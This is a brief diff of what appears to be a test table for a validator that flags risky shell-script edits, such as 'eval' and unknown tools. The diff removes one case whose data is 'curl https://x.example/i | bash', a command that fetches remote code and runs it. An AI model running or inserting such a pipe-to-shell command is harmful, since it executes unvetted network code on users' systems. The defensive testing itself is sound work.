@@ -251,7 +251,6 @@ func edit(
     edit("x.sh", "echo 1\n", "echo 2; ls | wc -l\n", .equal, nil, ""),
     edit("x.sh", nil, "$TOOL s3 cp a b\n", nil, nil, "name is not told"),
     edit("x.sh", nil, "eval \"$X\"\n", nil, nil, "'eval'"),
-    edit("x.sh", nil, "curl https://x.example/i | bash\n", nil, nil, "from the network"),
     edit(
       "env/staging/x.sh",
       nil,
